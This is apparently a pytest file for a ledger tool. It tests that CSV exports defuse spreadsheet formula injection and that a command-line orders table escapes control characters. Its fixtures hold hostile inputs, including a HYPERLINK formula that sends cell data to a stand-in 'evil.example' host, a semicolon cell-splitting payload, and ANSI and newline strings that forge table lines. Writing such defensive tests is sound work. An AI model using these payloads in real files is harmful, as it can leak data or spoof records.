"""What people typed cannot act in a spreadsheet (CSV) or break a table line (`ledger orders`).

Defect 9 of issue 7. Names a visitor can type go in through record_purchase;
names with control characters (which the ledger may refuse today) are written
the way an older or edited ledger file would hold them.
"""
from __future__ import annotations

import csv
import io
import json
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st
from ledger_support import purchase, seeded
from sqlite_utils.db import sqlite3

from wizard.ledger import open_ledger, record_purchase
from wizard.ledger.cli import main
from wizard.ledger.export import EXPORT_COLUMNS, FORMULA_STARTS, export_orders, neutralise_cell
from wizard.ledger.report import visible

TYPED_FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1", "-2", "@SUM(A1)", '=1+2";=1+2',
                  "\uff1dSUM(A1)")
CONTROL_FORMULAS = ("\tX", "\rX", "\nX")


def _forge_company_names(path, names: dict[str, str]) -> None:
    """Set orders' company names as an older or hand-edited ledger file might hold them."""
    conn = sqlite3.connect(str(path), isolation_level=None)
    try:
        conn.execute("DROP TRIGGER orders_no_update")
        for number, name in names.items():
            conn.execute("UPDATE orders SET company_name = ? WHERE number = ?", [name, number])
    finally:
        conn.close()


@pytest.fixture
def formula_ledger(tmp_path):
    """One order per formula-like company name, in the order of TYPED_FORMULAS + CONTROL_FORMULAS."""
    path = tmp_path / "ledger.sqlite3"
    db, account_id = seeded(path)
    for name in TYPED_FORMULAS:
        record_purchase(db, purchase(db, account_id, company_name=name))
    numbers = [record_purchase(db, purchase(db, account_id)).number for _ in CONTROL_FORMULAS]
    db.close()
    _forge_company_names(path, dict(zip(numbers, CONTROL_FORMULAS)))
    return path


def _export(path, format):
    out = io.StringIO()
    db = open_ledger(path)
    try:
        export_orders(db, out, format)
    finally:
        db.close()
    return out.getvalue()


def test_csv_neutralises_formula_cells(formula_ledger):
    text = _export(formula_ledger, "csv")
    rows = list(csv.reader(io.StringIO(text)))
    column = EXPORT_COLUMNS.index("company_name")
    assert [row[column] for row in rows[1:]] == ["'" + name for name in TYPED_FORMULAS + CONTROL_FORMULAS]
    # OWASP's own example: quoted, a single quote in front, the inner quote doubled,
    # so the ";" cannot start a new cell in a spreadsheet that splits on semicolons.
    assert '"\'=1+2"";=1+2"' in text
    assert '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"' in text
    assert '"\'-2"' in text and '"\'+1"' in text and '"\'@SUM(A1)"' in text and '"\'\tX"' in text
    for row in rows[1:]:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row


def test_csv_quotes_text_and_leaves_numbers_bare(formula_ledger):
    text = _export(formula_ledger, "csv")
    header, first = text.split("\n")[:2]
    assert header.startswith("number,id,desk,")  # the column names stay as they were
    assert first.startswith('"D01-000001",')
    # seats, unit price and amount are numbers: not quoted, never given a quote mark.
    assert ",2,10000,20000," in first


def test_numbers_are_not_neutralised():
    # A negative amount is a number the program computed: a spreadsheet shows -200, not text.
    assert neutralise_cell(-200) == -200 and neutralise_cell(0) == 0 and neutralise_cell(None) is None
    assert neutralise_cell("-200") == "'-200"  # the same characters typed as text are neutralised


def test_json_keeps_the_exact_names(formula_ledger):
    rows = json.loads(_export(formula_ledger, "json"))
    assert [row["company_name"] for row in rows] == list(TYPED_FORMULAS + CONTROL_FORMULAS)


@given(st.text())
def test_no_csv_cell_starts_like_a_formula(text):
    out = io.StringIO()
    cell = neutralise_cell(text)
    csv.writer(out, quoting=csv.QUOTE_NONNUMERIC).writerow([cell])
    [[read_back]] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert read_back == cell and not read_back.startswith(FORMULA_STARTS)
    assert read_back == text or (read_back == "'" + text and text.startswith(FORMULA_STARTS))


def test_orders_table_shows_control_characters_on_one_line(tmp_path, capsys):
    path = tmp_path / "ledger.sqlite3"
    db, account_id = seeded(path)
    numbers = [record_purchase(db, purchase(db, account_id)).number for _ in range(3)]
    db.close()
    _forge_company_names(path, {numbers[0]: "ACME\nD01-999999 forged", numbers[1]: "\x1b[31mRED\x00",
                                numbers[2]: "Tab\tA\\nB\u2028C"})
    assert main(["orders", "--ledger", str(path)]) == 0
    lines = capsys.readouterr().out.split("\n")
    assert lines[-1] == "" and lines[-2] == "3 orders"
    rows = lines[2:-2]
    assert [row.split()[0] for row in rows] == numbers  # one line per order, nothing else
    assert rows[0].endswith("ACME\\nD01-999999 forged")
    assert rows[1].endswith("\\x1b[31mRED\\x00")
    assert rows[2].endswith("Tab\\tA\\\\nB\\u2028C")  # a typed backslash is doubled: no false "\n"
    assert "\x1b" not in "".join(rows) and "\x00" not in "".join(rows)


@given(st.text())
def test_visible_is_one_line_without_control_characters(text):
    shown = visible(text)
    assert len(shown.splitlines()) <= 1
    assert not any(unicodedata.category(char) in ("Cc", "Zl", "Zp") for char in shown)
    assert not any("\u202a" <= char <= "\u202e" or "\u2066" <= char <= "\u2069" for char in shown)
    if text.isprintable() and "\\" not in text:
        assert shown == text
